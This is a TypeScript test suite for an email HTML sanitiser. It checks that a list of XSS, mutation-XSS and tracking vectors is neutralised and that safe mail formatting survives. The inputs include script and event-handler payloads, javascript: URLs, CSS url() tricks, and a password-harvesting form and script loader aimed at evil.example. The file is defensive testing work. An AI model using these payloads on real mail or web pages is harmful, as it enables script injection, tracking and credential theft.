import { MAX_HTML_DEPTH } from './mail-limits';
import { sanitiseHtml } from './sanitise-html';

const clean = (html: string) => sanitiseHtml(html).html;

/** Whatever could run, fetch by itself, frame, submit or cover the page. */
const DANGEROUS =
  /<\/?(script|iframe|frame|svg|math|style|object|embed|form|input|button|select|textarea|link|meta|base|template|video|audio|source|noscript|body|html)\b|javascript:|vbscript:|\son\w+\s*=|url\(|expression|@import|position\s*:|\ssrc="(?!cid:|data:image\/(?:png|jpe?g|gif|webp);)|srcset|\sbackground=|data:text|data:image\/svg|\sid=|\sclass=|\sname=|<!--/i;

const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<b>x">',
  '<img src=https://track.example/p.gif>',
  '<img src=//track.example/p.gif>',
  '<img srcset="https://track.example/1x 1x">',
  '<img src="cid:a" srcset="https://track.example/2x 2x" onload=x()>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>x</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>x</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="background:url(https://track.example)">x</div>',
  '<div style="background-image:u\\72l(https://track.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="list-style-image:url(https://track.example)">x</div>',
  '<div style="color:red;/*x*/background:url(//t.example)">x</div>',
  '<div style="font-family:\'x\';behavior:url(x.htc);-moz-binding:url(x.xml)">x</div>',
  '<div style="width:calc(1px);content:attr(x);color:var(--x)">x</div>',
  '<table background="https://track.example/b.png"><tr><td background="//t.example">x</td></tr></table>',
  '<body onload=alert(1) background="https://track.example">x</body>',
  '<video src="https://track.example" autoplay></video><audio src=//t.example></audio>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>x</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p/onclick=alert(1)>x</p>',
  '<p title="a" title="b" ONMOUSEOVER=alert(1)>x</p>',
  '<a id=location name=cookie class=x href="https://ok.example">x</a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<title><img src=x onerror=alert(1)></title>',
  '<img src="&#x68;ttps://track.example/x.png">',
];

describe('sanitising HTML', () => {
  it.each(VECTORS)('leaves nothing that could run, fetch or cover: %s', (vector) => {
    // Text that was escaped is harmless whatever it says.
    const tags = (clean(`<p>before</p>${vector}<p>after</p>`).match(/<[^>]*>/g) ?? []).join('');
    expect(tags).not.toMatch(DANGEROUS);
  });

  it.each(VECTORS)('changes nothing when done twice: %s', (vector) => {
    const once = clean(vector);
    // What was moved aside stays aside.
    expect(clean(once.replaceAll('data-remote-src', 'src'))).toBe(once);
  });

  it('keeps what shapes a mail', () => {
    const html =
      '<h1>Devis</h1><table border="1"><tr><td colspan="2" style="color:#333;padding:4px">x</td></tr></table><ul><li>a</li></ul><blockquote>q</blockquote>';
    expect(clean(html)).toBe(html);
  });

  it('opens links elsewhere, without telling where from', () => {
    expect(clean('<a href="https://x.example/?a=1&amp;b=2" target="_top">x</a>')).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(clean('<a href="mailto:a@x.example">m</a>')).toContain('href="mailto:a@x.example"');
  });

  it('keeps the address of a remote image for a reader who asks for it', () => {
    expect(clean('<img src="https://x.example/a.png" alt="A" width="10">')).toBe(
      '<img alt="A" width="10" data-remote-src="https://x.example/a.png" />',
    );
    expect(clean('<img src="//x.example/a.png">')).toContain('data-remote-src="https://x.example/a.png"');
  });

  it('does not let a mail write data-remote-src or data-quote itself', () => {
    expect(clean('<p data-quote="1" data-remote-src="x">a</p>')).toBe('<p>a</p>');
  });

  it('tells which Content-IDs it shows, as they were written', () => {
    const { html, contentIds } = sanitiseHtml('<img src="cid:Logo@X"><img src="CID:two%20words">');
    expect([...contentIds]).toEqual(['Logo@X', 'two words']);
    expect(html).toContain('src="cid:Logo@X"');
  });

  it('shows an image by its location where a file of the mail has it', () => {
    const located = sanitiseHtml('<img src="a.png"><img src="b.png">', (location) =>
      location === 'a.png' ? 'a-id' : undefined,
    );
    expect(located.html).toBe('<img src="cid:a-id" /><img />');
    expect([...located.contentIds]).toEqual(['a-id']);
  });

  it('marks where mail programs begin their quotes', () => {
    for (const quote of [
      '<div class="x gmail_quote">q</div>',
      '<blockquote type="CITE">q</blockquote>',
      '<div id="x_divRplyFwdMsg">q</div>',
    ]) {
      expect(clean(quote)).toContain('data-quote="1"');
    }
    expect(clean('<blockquote class="my_gmail_quotes">q</blockquote>')).not.toContain('data-quote');
  });

  it('keeps the words of elements nested too deep', () => {
    const result = clean(`${'<div>'.repeat(5_000)}deep${'</div>'.repeat(5_000)}`);
    expect(result).toContain('deep');
    expect(result.match(/<div>/g)?.length).toBeLessThanOrEqual(MAX_HTML_DEPTH);
  });

  it('takes no longer than a moment for 300,000 nested elements or half-open tags', () => {
    const began = process.cpuUsage();
    clean('<div>'.repeat(300_000));
    clean('<a '.repeat(200_000));
    clean('<'.repeat(900_000));
    clean(`<p style="${'a:b;'.repeat(100_000)}">x</p>`);
    // processor time: a busy machine takes longer for the same work
    expect(process.cpuUsage(began).user / 1_000).toBeLessThan(20_000);
  });

  it('stays within its limit even where escaping makes the text longer, and says so', () => {
    const result = sanitiseHtml('&'.repeat(3_000), undefined, 1_000);
    expect(result.html.length).toBeLessThanOrEqual(1_000);
    expect(result.cut).toBe(true);
    expect(sanitiseHtml('<p>short</p>').cut).toBe(false);
  });
});
